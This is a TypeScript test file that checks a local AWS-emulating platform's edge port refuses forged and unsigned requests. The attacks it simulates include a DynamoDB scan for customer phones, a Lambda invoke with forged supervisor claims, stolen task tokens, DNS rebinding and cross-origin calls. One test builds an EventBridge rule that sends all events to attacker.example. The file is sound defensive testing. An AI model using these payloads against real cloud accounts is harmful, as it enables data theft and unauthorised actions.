import { DynamoDBClient, ListTablesCommand, ScanCommand } from '@aws-sdk/client-dynamodb';
import { EventBridgeClient, ListEventBusesCommand, ListRulesCommand } from '@aws-sdk/client-eventbridge';
import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import { ListScheduleGroupsCommand, SchedulerClient } from '@aws-sdk/client-scheduler';
import { ListStateMachinesCommand, SFNClient } from '@aws-sdk/client-sfn';
import { ListQueuesCommand, SQSClient } from '@aws-sdk/client-sqs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { manifest } from '../../../app/manifest.ts';
import { edgeClientConfig } from '../../../local/runtime/edge-client.ts';
import { TestPlatform } from '../../e2e/platform.ts';
import { rawEdgeRequest, signedEdgeRequest, type RawAnswer } from '../../support/edge-request.ts';
import { orderPlaced } from '../../support/orders.ts';

// The attacks of issue 21 §1 on the real platform's edge port: an unsigned or forged request
// reaches nothing, and gets the status and error code the real service answers.

let platform: TestPlatform;
let caseId: string;
const FOREIGN = { accessKeyId: 'LKIAAAAAAAAAAAAAAAAA', secretAccessKey: 'x'.repeat(40) };

beforeAll(async () => {
  platform = await TestPlatform.start('2026-12-01T10:00:00+08:00');
  const placed = await platform.storefront('order.placed', orderPlaced('SO-EDGE-1', platform.clock.now()));
  caseId = placed.caseId!;
}, 60_000);
afterAll(() => platform.stop());

const edge = () => platform.runtime;
const table = () => platform.runtime.names.physical(manifest.tables[0]!.id);
const staffApi = () => platform.runtime.names.physical('staff-api');
const json = (answer: RawAnswer) => JSON.parse(answer.body) as Record<string, unknown>;

/** Every SDK client of the emulated services, on the edge with `credentials`, one call each. */
function calls(credentials: { accessKeyId: string; secretAccessKey: string }) {
  const config = { ...edgeClientConfig(edge()), credentials, maxAttempts: 1 };
  return {
    dynamodb: () => new DynamoDBClient(config).send(new ListTablesCommand({})),
    states: () => new SFNClient(config).send(new ListStateMachinesCommand({})),
    events: () => new EventBridgeClient(config).send(new ListEventBusesCommand({})),
    scheduler: () => new SchedulerClient(config).send(new ListScheduleGroupsCommand({})),
    sqs: () => new SQSClient(config).send(new ListQueuesCommand({})),
    lambda: () => new LambdaClient(config).send(new InvokeCommand({ FunctionName: staffApi(), InvocationType: 'DryRun' })),
  };
}

async function failure(call: () => Promise<unknown>): Promise<{ name: string; status: number | undefined }> {
  const error = (await call().then(
    () => undefined,
    (e: unknown) => e,
  )) as { name: string; $metadata?: { httpStatusCode?: number } } | undefined;
  if (!error) throw new Error('the call succeeded');
  return { name: error.name, status: error.$metadata?.httpStatusCode };
}

describe('the edge port with the data directory key', () => {
  it('answers every service SDK client signed with the runtime key', async () => {
    const ok = calls(edge().credentials);
    expect((await ok.dynamodb()).TableNames).toContain(table());
    expect((await ok.states()).stateMachines?.length).toBeGreaterThan(0);
    expect((await ok.events()).EventBuses?.length).toBeGreaterThan(0);
    expect((await ok.scheduler()).ScheduleGroups?.length).toBeGreaterThan(0);
    expect((await ok.sqs()).QueueUrls?.length).toBeGreaterThan(0);
    expect((await ok.lambda()).StatusCode).toBe(204);
  });

  it("refuses a client signing with the right key id and a wrong secret with each service's bad-signature error", async () => {
    const wrong = calls({ accessKeyId: edge().credentials.accessKeyId, secretAccessKey: 'w'.repeat(40) });
    // DynamoDB "Error handling": InvalidSignatureException 400; SQS: SignatureDoesNotMatch 403; Lambda and Scheduler (REST): 403.
    expect(await failure(wrong.dynamodb)).toEqual({ name: 'InvalidSignatureException', status: 400 });
    expect(await failure(wrong.states)).toEqual({ name: 'InvalidSignatureException', status: 400 });
    expect(await failure(wrong.events)).toEqual({ name: 'InvalidSignatureException', status: 400 });
    expect(await failure(wrong.scheduler)).toEqual({ name: 'InvalidSignatureException', status: 403 });
    expect(await failure(wrong.sqs)).toEqual({ name: 'SignatureDoesNotMatch', status: 403 });
    expect(await failure(wrong.lambda)).toEqual({ name: 'InvalidSignatureException', status: 403 });
  });

  it("refuses a key it does not know with each service's unknown-key error", async () => {
    const foreign = calls(FOREIGN);
    expect(await failure(foreign.dynamodb)).toEqual({ name: 'UnrecognizedClientException', status: 400 });
    expect(await failure(foreign.states)).toEqual({ name: 'UnrecognizedClientException', status: 400 });
    expect(await failure(foreign.events)).toEqual({ name: 'UnrecognizedClientException', status: 400 });
    expect(await failure(foreign.scheduler)).toEqual({ name: 'UnrecognizedClientException', status: 403 });
    expect(await failure(foreign.sqs)).toEqual({ name: 'InvalidClientTokenId', status: 403 });
    expect(await failure(foreign.lambda)).toEqual({ name: 'UnrecognizedClientException', status: 403 });
  });

  it("refuses an unsigned DynamoDB Scan of the case table: MissingAuthenticationTokenException, and no customer's phone", async () => {
    const scan = await rawEdgeRequest(edge().edgeUrl, {
      path: '/',
      headers: { 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'DynamoDB_20120810.Scan' },
      body: JSON.stringify({ TableName: table() }),
    });
    expect(scan.status).toBe(400);
    expect(json(scan).__type).toBe('com.amazon.coral.service#MissingAuthenticationTokenException');
    expect(scan.body).not.toContain('13700000000');
    // The phone is there for the runtime's own key: the refusal is the door, not an empty table.
    const signed = await new DynamoDBClient(edgeClientConfig(edge())).send(new ScanCommand({ TableName: table() }));
    expect(JSON.stringify(signed.Items)).toContain('13700000000');
  });

  it('refuses a forged Lambda Invoke of the staff-API function, unsigned or signed with an invented key, and runs nothing', async () => {
    const before = edge().usage().functions['staff-api']?.invocations ?? 0;
    const forgedEvent = JSON.stringify({
      version: '2.0',
      routeKey: 'POST /cases/{caseId}/steps/{step}/complete',
      rawPath: `/cases/${caseId}/steps/confirm-order/complete`,
      requestContext: { http: { method: 'POST', path: `/cases/${caseId}/steps/confirm-order/complete` }, authorizer: { jwt: { claims: { sub: 'mallory', roles: 'supervisor' } } } },
      pathParameters: { caseId, step: 'confirm-order' },
      body: '{}',
    });
    const path = `/2015-03-31/functions/${staffApi()}/invocations`;
    const unsigned = await rawEdgeRequest(edge().edgeUrl, { path, body: forgedEvent });
    expect(unsigned.status).toBe(403);
    expect(unsigned.headers['x-amzn-errortype']).toMatch(/^MissingAuthenticationTokenException/);
    const invented = await signedEdgeRequest(edge().edgeUrl, 'lambda', FOREIGN, { path, body: forgedEvent });
    expect(invented.status).toBe(403);
    expect(invented.headers['x-amzn-errortype']).toMatch(/^UnrecognizedClientException/);
    expect(edge().usage().functions['staff-api']?.invocations ?? 0).toBe(before);
  });

  it('refuses SendTaskSuccess with a task token read from the table, and the step stays open', async () => {
    const items = (await new DynamoDBClient(edgeClientConfig(edge())).send(new ScanCommand({ TableName: table() }))).Items ?? [];
    const token = items.map((item) => item.taskToken?.S).find((t) => t !== undefined);
    expect(token).toBeDefined();
    const open = await platform.openSteps(caseId);
    const stolen = await rawEdgeRequest(edge().edgeUrl, {
      path: '/',
      headers: { 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'AWSStepFunctions.SendTaskSuccess' },
      body: JSON.stringify({ taskToken: token, output: '{"outcome":"done"}' }),
    });
    expect(stolen.status).toBe(400);
    expect(json(stolen).__type).toBe('com.amazon.coral.service#MissingAuthenticationTokenException');
    await platform.runtime.settle();
    expect(await platform.openSteps(caseId)).toEqual(open);
  });

  it('refuses EventBridge PutRule and PutTargets sending every event to an outside URL, and no rule appears', async () => {
    const bus = platform.runtime.names.physical(manifest.buses[0]!.id);
    const target = (operation: string) => ({ 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': `AWSEvents.${operation}` });
    const rule = await rawEdgeRequest(edge().edgeUrl, { path: '/', headers: target('PutRule'), body: JSON.stringify({ Name: 'exfiltrate', EventBusName: bus, EventPattern: JSON.stringify({ source: [{ prefix: '' }] }) }) });
    expect(rule.status).toBe(400);
    expect(json(rule).__type).toBe('com.amazon.coral.service#MissingAuthenticationTokenException');
    const targets = await signedEdgeRequest(edge().edgeUrl, 'events', FOREIGN, {
      path: '/',
      headers: target('PutTargets'),
      body: JSON.stringify({ Rule: 'exfiltrate', EventBusName: bus, Targets: [{ Id: 'out', Arn: 'arn:aws:events:us-east-1:000000000000:api-destination/out', HttpParameters: { HeaderParameters: { url: 'https://attacker.example/collect' } } }] }),
    });
    expect(targets.status).toBe(400);
    expect(json(targets).__type).toBe('com.amazon.coral.service#UnrecognizedClientException');
    const rules = await new EventBridgeClient(edgeClientConfig(edge())).send(new ListRulesCommand({ EventBusName: bus }));
    expect((rules.Rules ?? []).map((r) => r.Name)).not.toContain('exfiltrate');
  });

  it('answers 421 to a foreign Host header (DNS rebinding), even on a request signed with the right key', async () => {
    const port = new URL(edge().edgeUrl).port;
    const rebound = await signedEdgeRequest(`http://127.0.0.1:${port}`, 'dynamodb', edge().credentials, {
      path: '/',
      headers: { host: `attacker.example:${port}`, 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'DynamoDB_20120810.ListTables' },
      body: '{}',
    });
    expect(rebound.status).toBe(421);
    expect(rebound.body).not.toContain(table());
    for (const host of [`localhost:${port}`, `[::1]:${port}`]) {
      const loopback = await signedEdgeRequest(`http://127.0.0.1:${port}`, 'dynamodb', edge().credentials, {
        path: '/',
        headers: { host, 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'DynamoDB_20120810.ListTables' },
        body: '{}',
      });
      expect(loopback.status, host).toBe(200);
    }
  });

  it('refuses a request a web page makes (Origin header), signed or not, with 403 and no CORS headers', async () => {
    const answer = await signedEdgeRequest(edge().edgeUrl, 'dynamodb', edge().credentials, {
      path: '/',
      headers: { origin: 'https://attacker.example', 'content-type': 'text/plain', 'x-amz-target': 'DynamoDB_20120810.ListTables' },
      body: '{}',
    });
    expect(answer.status).toBe(403);
    expect(answer.headers['access-control-allow-origin']).toBeUndefined();
  });
});
